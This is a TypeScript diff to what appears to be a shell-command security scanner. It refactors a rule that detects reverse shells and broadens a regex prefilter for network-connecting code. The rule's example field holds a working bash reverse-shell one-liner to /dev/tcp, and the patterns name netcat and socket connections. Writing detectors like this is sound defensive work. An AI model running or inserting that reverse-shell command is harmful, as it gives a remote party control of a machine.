@@ -51,9 +51,7 @@ export const SHELL_RULES: readonly Rule[] = [
       if (INERT.has(c.name)) return undefined
       const runsInput = isInterpreter(c.name) || (c.args.length > 0 && c.scope.written?.size)
       return [...c.args, ...(runsInput ? inputCode(c) : [])].filter(
-        ({ text }) =>
-          text.length >= LEAST_CODE &&
-          (NETCAT_SHELL.test(text) || (CONNECTS.test(text) && RUNS_COMMANDS.test(text))),
+        ({ text }) => text.length >= LEAST_CODE && handsShell(text),
       )
     },
     example: 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
@@ -125,9 +123,12 @@ const MORE =
 
 /** Code that connects and runs a shell is longer. */
 const LEAST_CODE = 24
+/** Whether the text has code that hands a shell to another machine. */
+export const handsShell = (text: string): boolean =>
+  NETCAT_SHELL.test(text) || (CONNECTS.test(text) && RUNS_COMMANDS.test(text))
 /** Whether a word may be such code; a quick look that spares most commands the rule. */
 export const mayConnect = ({ text }: Arg): boolean =>
-  text.length >= LEAST_CODE && /connect|socket|tcp|\bn(?:et)?c(?:at)? |Net::/i.test(text)
+  text.length >= LEAST_CODE && /connect|sock|tcp|\bn(?:et)?c(?:at)? |net[.:"'(]/i.test(text)
 
 function isInterpreter(name: string): boolean {
   return interpreterName(name) !== undefined || MORE.test(name)
